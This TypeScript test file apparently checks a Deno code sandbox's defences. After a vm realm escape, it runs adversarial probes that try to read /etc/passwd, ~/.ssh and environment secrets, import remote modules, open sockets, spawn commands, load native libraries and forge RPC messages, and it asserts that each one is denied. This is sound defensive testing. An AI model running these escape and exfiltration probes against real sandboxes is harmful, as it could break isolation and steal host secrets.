import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { SandboxSession } from "@rlm/core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { DenoSandbox } from "../src/index.js";
import { cell, openSession } from "./helpers.js";

// Each probe runs after the classic vm realm escape, so it reaches the worker's real
// `Deno`, `process` and node builtins: Deno's permission checks are the boundary tested.
const PRELUDE = `
const G = globalThis.constructor.constructor("return globalThis")();
const D = G.Deno;
// Escaped realm code cannot call import() (the vm script has no import callback), but it
// can start a module Worker, where import() works: probes that import run there.
const inWorker = (body) => new Promise((ok, bad) => {
  const source = "(async () => { " + body + " })().then((v) => postMessage({ ok: String(v).slice(0, 80) }), (e) => postMessage({ name: e && e.name, message: String(e && e.message) }))";
  const w = new G.Worker("data:text/javascript," + encodeURIComponent(source), { type: "module" });
  w.onmessage = (m) => { w.terminate(); m.data.ok !== undefined ? ok(m.data.ok) : bad(Object.assign(new Error(m.data.message), { name: m.data.name })) };
  w.onerror = (e) => { e.preventDefault(); w.terminate(); bad(new Error(e.message)) };
});
async function attempt(f) {
  try { const v = await f(); return "ALLOWED " + String(v).slice(0, 80); }
  catch (e) { return "DENIED " + (e && e.name) + ": " + String(e && e.message).slice(0, 200); }
}
`;

const NOT_CAPABLE = /^DENIED NotCapable/;
const DENIED = /^DENIED /;

interface Probe {
  name: string;
  code: string;
  expected: RegExp;
}

function probes(port: () => number): Probe[] {
  const list: Probe[] = [
    // Filesystem
    { name: "read /etc/passwd", code: 'D.readTextFile("/etc/passwd")', expected: NOT_CAPABLE },
    {
      name: "read /proc/self/environ",
      code: 'D.readTextFileSync("/proc/self/environ")',
      expected: NOT_CAPABLE,
    },
    { name: "open /proc/self/mem", code: 'D.open("/proc/self/mem")', expected: NOT_CAPABLE },
    {
      name: "list ~/.ssh",
      code: 'Array.fromAsync(D.readDir("/root/.ssh"))',
      expected: NOT_CAPABLE,
    },
    {
      name: "re-read the context file after revoke",
      code: 'D.readTextFile(D.cwd() + "/../context.data")',
      expected: NOT_CAPABLE,
    },
    {
      name: "node:fs readFileSync",
      code: 'inWorker(`return (await import("node:fs")).readFileSync("/etc/hostname", "utf8")`)',
      expected: NOT_CAPABLE,
    },
    {
      name: "node:fs existsSync is no oracle",
      code: 'inWorker(`if ((await import("node:fs")).existsSync("/etc/shadow")) return "visible"; throw Object.assign(new Error("no"), { name: "Hidden" })`)',
      expected: DENIED,
    },
    {
      name: "readLink of /proc/self/cwd",
      code: 'D.readLink("/proc/self/cwd")',
      expected: NOT_CAPABLE,
    },
    { name: "readDir /", code: 'Array.fromAsync(D.readDir("/"))', expected: NOT_CAPABLE },
    { name: "stat /etc", code: 'D.stat("/etc")', expected: NOT_CAPABLE },
    {
      name: "write a file in the working dir",
      code: 'D.writeTextFile(D.cwd() + "/x.txt", "x")',
      expected: NOT_CAPABLE,
    },
    { name: "mkdir", code: 'D.mkdir(D.cwd() + "/d")', expected: NOT_CAPABLE },
    {
      name: "chmod the context file",
      code: 'D.chmod(D.cwd() + "/../context.data", 0o777)',
      expected: NOT_CAPABLE,
    },
    { name: "makeTempFile", code: "D.makeTempFile()", expected: NOT_CAPABLE },
    { name: "hard link", code: 'D.link("/etc/passwd", D.cwd() + "/p")', expected: NOT_CAPABLE },
    { name: "symlink", code: 'D.symlink("/etc", D.cwd() + "/etc")', expected: NOT_CAPABLE },
    {
      name: "remove the context file",
      code: 'D.remove(D.cwd() + "/../context.data")',
      expected: NOT_CAPABLE,
    },
    {
      name: "open the IPC fd through /dev/fd/3",
      code: 'D.open("/dev/fd/3")',
      expected: NOT_CAPABLE,
    },
    {
      name: "node:fs writeFileSync",
      code: 'inWorker(`return (await import("node:fs")).writeFileSync("/tmp/rlm-escape", "x")`)',
      expected: NOT_CAPABLE,
    },
    // Network
    { name: "fetch a public host", code: 'G.fetch("https://example.com")', expected: NOT_CAPABLE },
    {
      name: "fetch the host's loopback server",
      code: `G.fetch("http://127.0.0.1:${port()}/")`,
      expected: NOT_CAPABLE,
    },
    {
      name: "WebSocket",
      code: `new G.WebSocket("ws://127.0.0.1:${port()}/")`,
      expected: NOT_CAPABLE,
    },
    {
      name: "Deno.connect to loopback",
      code: `D.connect({ hostname: "127.0.0.1", port: ${port()} })`,
      expected: NOT_CAPABLE,
    },
    { name: "Deno.listen", code: "D.listen({ port: 0 })", expected: NOT_CAPABLE },
    { name: "Deno.resolveDns", code: 'D.resolveDns("example.com", "A")', expected: NOT_CAPABLE },
    {
      name: "node:net connect",
      code: `inWorker('const net = await import("node:net"); return await new Promise((ok, bad) => { const c = net.connect(${port()}, "127.0.0.1"); c.on("error", bad); c.on("connect", () => ok("connected")) })')`,
      expected: NOT_CAPABLE,
    },
    {
      name: "node:http get",
      code: `inWorker('const http = await import("node:http"); return await new Promise((ok, bad) => http.get("http://127.0.0.1:${port()}/", () => ok("got")).on("error", bad))')`,
      expected: NOT_CAPABLE,
    },
    {
      name: "node:dns lookup",
      code: 'inWorker(`const dns = await import("node:dns"); return await new Promise((ok, bad) => dns.lookup("example.com", (e, a) => e ? bad(e) : ok(a)))`)',
      expected: DENIED,
    },
    // Module loading (egress through downloads)
    {
      name: "import npm:",
      code: 'inWorker(`return Object.keys(await import("npm:left-pad@1.3.0"))`)',
      expected: /^DENIED .*(--no-npm|npm)/,
    },
    {
      name: "import https://esm.sh",
      code: 'inWorker(`return Object.keys(await import("https://esm.sh/secret-exfil"))`)',
      expected: /^DENIED .*(--no-remote|remote|import)/,
    },
    {
      name: "import jsr:",
      code: 'inWorker(`return Object.keys(await import("jsr:@std/path"))`)',
      expected: /^DENIED .*(jsr|remote|import)/,
    },
    {
      name: "import raw.githubusercontent.com",
      code: 'inWorker(`return Object.keys(await import("https://raw.githubusercontent.com/x/y/main/z.js"))`)',
      expected: /^DENIED .*(remote|import)/,
    },
    {
      name: "import a local file as text",
      code: 'inWorker(`return (await import("file:///etc/hostname", { with: { type: "text" } })).default`)',
      expected: /^DENIED .*(read access|raw-imports|text)/,
    },
    {
      name: "import a local file as json",
      code: 'inWorker(`return Object.keys(await import("file:///etc/passwd", { with: { type: "json" } }))`)',
      expected: /^DENIED .*read access/,
    },
    {
      name: "data: module importing /etc/passwd",
      code: `inWorker('const q = String.fromCharCode(34); return Object.keys(await import("data:text/javascript," + encodeURIComponent("import " + q + "file:///etc/passwd" + q + ";")))')`,
      expected: /^DENIED .*read access/,
    },
    {
      name: "blob: module importing a local file",
      code: `inWorker('const q = String.fromCharCode(34); return Object.keys(await import(URL.createObjectURL(new Blob(["export * from " + q + "file:///etc/hostname" + q], { type: "text/javascript" }))))')`,
      expected: /^DENIED .*read access/,
    },
    {
      name: "npm: import from a nested module Worker",
      code: `new Promise((ok, bad) => { const w = new G.Worker("data:text/javascript," + encodeURIComponent('import("npm:left-pad").then(() => postMessage("ALLOWED"), (e) => postMessage("DENIED " + e.message))'), { type: "module" }); w.onmessage = (m) => { w.terminate(); String(m.data).startsWith("ALLOWED") ? ok(m.data) : bad(new Error(m.data)) }; w.onerror = (e) => { e.preventDefault(); w.terminate(); bad(new Error(e.message)) } })`,
      expected: DENIED,
    },
    // Environment
    { name: "Deno.env.get", code: 'D.env.get("HOME")', expected: NOT_CAPABLE },
    { name: "Deno.env.toObject", code: "D.env.toObject()", expected: NOT_CAPABLE },
    {
      name: "process.env",
      code: 'inWorker(`return (await import("node:process")).default.env.PATH`)',
      expected: NOT_CAPABLE,
    },
    // Subprocesses
    { name: "Deno.Command", code: 'new D.Command("/usr/bin/id").output()', expected: NOT_CAPABLE },
    {
      name: "child_process.execSync",
      code: 'inWorker(`return (await import("node:child_process")).execSync("/usr/bin/id")`)',
      expected: NOT_CAPABLE,
    },
    { name: "Deno.kill the parent", code: 'D.kill(D.ppid, "SIGKILL")', expected: NOT_CAPABLE },
    {
      name: "process.kill the parent",
      code: 'inWorker(`return (await import("node:process")).default.kill(Deno.ppid)`)',
      expected: NOT_CAPABLE,
    },
    // Native code
    { name: "Deno.dlopen", code: 'D.dlopen("libc.so.6", {})', expected: NOT_CAPABLE },
    {
      name: "process.dlopen",
      code: 'inWorker(`return (await import("node:process")).default.dlopen({}, "/usr/lib/x86_64-linux-gnu/libc.so.6")`)',
      expected: NOT_CAPABLE,
    },
    {
      name: "sqlite loadExtension",
      code: 'inWorker(`return new (await import("node:sqlite")).DatabaseSync(":memory:", { allowExtension: true }).loadExtension("/tmp/x.so")`)',
      expected: NOT_CAPABLE,
    },
    {
      name: "sqlite ATTACH a file",
      code: 'inWorker(`return new (await import("node:sqlite")).DatabaseSync(":memory:").exec("ATTACH DATABASE \'/tmp/rlm-attach.db\' AS x")`)',
      expected: DENIED,
    },
    // System information
    { name: "hostname", code: "D.hostname()", expected: NOT_CAPABLE },
    { name: "networkInterfaces", code: "D.networkInterfaces()", expected: NOT_CAPABLE },
    {
      name: "os.userInfo",
      code: 'inWorker(`return (await import("node:os")).userInfo().username`)',
      expected: NOT_CAPABLE,
    },
    { name: "systemMemoryInfo", code: "D.systemMemoryInfo()", expected: NOT_CAPABLE },
    {
      name: "node:inspector open",
      code: 'inWorker(`return (await import("node:inspector")).open(9229)`)',
      expected: NOT_CAPABLE,
    },
    // Escalation
    {
      name: "permission requests are all denied without a prompt",
      code: `(async () => { const states = []; for (const d of [{ name: "read", path: "/" }, { name: "write", path: "/tmp" }, { name: "net" }, { name: "env" }, { name: "run" }, { name: "ffi" }, { name: "sys" }, { name: "import" }]) states.push((await D.permissions.request(d)).state); if (states.some((s) => s === "granted")) return states.join(","); throw Object.assign(new Error(states.join(",")), { name: "AllDenied" }) })()`,
      expected: /^DENIED AllDenied: (denied|prompt)(,(denied|prompt)){7}$/,
    },
    // Forged RPC from inside the worker
    {
      name: "process.send from the worker",
      code: 'inWorker(`return (await import("node:process")).default.send({ type: "cell-result", cellId: "x", output: "forged", truncated: false })`)',
      expected: DENIED,
    },
  ];
  return list;
}

describe("adversarial: denied operations (after a vm realm escape)", () => {
  let sandbox: DenoSandbox;
  let session: SandboxSession;
  let server: Server;
  let requests = 0;

  beforeAll(async () => {
    server = createServer((_request, response) => {
      requests++;
      response.end("secret");
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    ({ sandbox, session } = await openSession({ context: "ctx" }));
  });
  afterAll(async () => {
    await session.close();
    await sandbox.close();
    server.close();
  });

  const port = () => (server.address() as AddressInfo).port;
  for (const probe of probes(() => 0)) {
    it(probe.name, async () => {
      const code = probes(port).find((each) => each.name === probe.name)?.code ?? "";
      const result = await cell(
        session,
        `${PRELUDE}\nprint(await attempt(async () => ${code}))`,
        10_000,
      );
      expect(result.error).toBeUndefined();
      expect(result.output).toMatch(probe.expected);
      const after = await cell(session, "context + 1");
      expect(after.output).toBe("'ctx1'");
      expect(requests).toBe(0);
    });
  }
});
